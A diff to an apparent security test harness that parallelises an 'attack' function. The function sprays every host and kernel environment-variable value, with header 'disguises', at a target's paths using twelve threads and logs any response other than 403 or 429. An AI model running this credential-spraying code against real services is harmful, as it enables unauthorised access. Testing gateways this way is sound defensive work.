@@ -7,8 +7,11 @@ import hmac
 import http.client
 import json
 import os
+import threading
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from itertools import product
 from urllib.parse import quote, urlsplit
 
 from _wire import ALLOW, REJECT, Json, Wire, in_turns
@@ -46,21 +49,33 @@ def tries_secrets(wire: Wire, session_id: str, text: str) -> str:
 def attack(plan: Json) -> tuple[int, list[str]]:
     url = urlsplit(plan["url"])
     assert url.hostname is not None
-    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=10)
-    values = {*os.environ.values(), *plan["kernel_environment"].values()}
-    tried, got_in = 0, []
-    for path in plan["paths"]:
+    host, connections = url.hostname, threading.local()
+    values = sorted({*os.environ.values(), *plan["kernel_environment"].values()})
+
+    def tried(number: int, path: str, value: str) -> list[tuple[str, int]]:
+        if not hasattr(connections, "mine"):
+            connections.mine = http.client.HTTPConnection(host, url.port, timeout=60)
         method = "GET" if path.rsplit("/", 1)[-1] in plan["reads"] else "POST"
-        body = json.dumps(BODIES[tried % len(BODIES)]).encode() if method == "POST" else b""
-        for value in sorted(values):
-            for target, headers in disguises(plan, method, url.path + path, value, body):
-                connection.request(method, target, body, headers)
-                answer = connection.getresponse()
-                answer.read()
-                tried += 1
-                if answer.status != 403:
-                    got_in.append(f"{method} {target} {sorted(headers)} {answer.status}")
-    return tried, got_in
+        body = json.dumps(BODIES[number % len(BODIES)]).encode() if method == "POST" else b""
+        answers = []
+        for target, headers in disguises(plan, method, url.path + path, value, body):
+            connections.mine.request(method, target, body, headers)
+            answer = connections.mine.getresponse()
+            answer.read()
+            answers.append((f"{method} {target} {sorted(headers)} {answer.status}", answer.status))
+        return answers
+
+    keys = [(number, *key) for number, key in enumerate(product(plan["paths"], values))]
+    # One after the other would wait seconds for each answer, and so try less.
+    with ThreadPoolExecutor(_AT_ONCE) as attackers:
+        answers = [
+            each for found in attackers.map(tried, *zip(*keys, strict=True)) for each in found
+        ]
+    # 429: too many wrong keys, so that this one was not even looked at.
+    return len(answers), [words for words, status in answers if status not in {403, 429}]
+
+
+_AT_ONCE = 12
 
 
 def disguises(
